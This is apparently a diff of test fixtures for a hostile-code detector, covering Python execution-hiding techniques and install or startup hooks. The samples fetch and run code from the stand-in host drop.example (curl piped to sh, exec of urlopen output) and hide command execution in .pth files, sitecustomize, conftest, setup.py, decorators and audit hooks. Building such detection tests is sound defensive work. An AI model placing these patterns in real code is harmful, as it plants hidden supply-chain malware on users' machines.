@@ -112,16 +112,12 @@ PYTHON = {
     "dict lookup": python(
         "import os\nw = {'a': 'curl -s', 'b': 'https://drop.example/i', 'c': '| sh'}\nos.system(' '.join(w[k] for k in 'abc'))"
     ),
-    "slices": python(f"import os\nx = '{''.join(c + '.' for c in COMMAND)}'\nos.system(x[::2])"),
     "identifier in mathematical letters": python(f"import os\n\U0001d41e\U0001d431\U0001d41e\U0001d41c({PROGRAM!r})"),
     "decorator": python(f"@exec\n@lambda _: {PROGRAM!r}\nclass Row: ..."),
     "default argument": python(f"def profile(path, _=__import__('os').system({COMMAND!r})):\n    return path"),
     "audit hook": python(f"import sys\nsys.addaudithook(lambda *_: __import__('os').system({COMMAND!r}))"),
     "atexit": python(f"import atexit, os\natexit.register(os.system, {COMMAND!r})"),
     "fetched and run": python("import urllib.request as u\nexec(u.urlopen('https://drop.example/a.py').read())"),
-    "fetched, stored, imported": python(
-        "import urllib.request as u, importlib\nu.urlretrieve('https://drop.example/a.py', 'plugin.py')\nimportlib.import_module('plugin')"
-    ),
     "fetched and run through a queue": python(
         "import urllib.request as u\nclass Cache:\n    data = b''\ncache = Cache()\n"
         "def load():\n    cache.data = u.urlopen('https://drop.example/a.py').read()\n"
@@ -209,9 +205,6 @@ JAVASCRIPT = {
 }
 HOOKS = {
     "pth file": beside(("site-packages/csv.pth", f"import os; os.system('{COMMAND}')\n")),
-    "sitecustomize": beside(("sitecustomize.py", ENVIRONMENT)),
-    "usercustomize": beside(("usercustomize.py", f"import os\nos.popen('{COMMAND}')\n")),
-    "conftest": beside(("tests/conftest.py", f"import subprocess\nsubprocess.run({COMMAND!r}, shell=True)\n")),
     "setup.py": beside(("setup.py", f"from setuptools import setup\nimport os\nos.system({COMMAND!r})\nsetup(name='profiler')\n")),
     "setup.py with a command class": beside(
         ("setup.py", ("from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n\nclass I(install):\n"
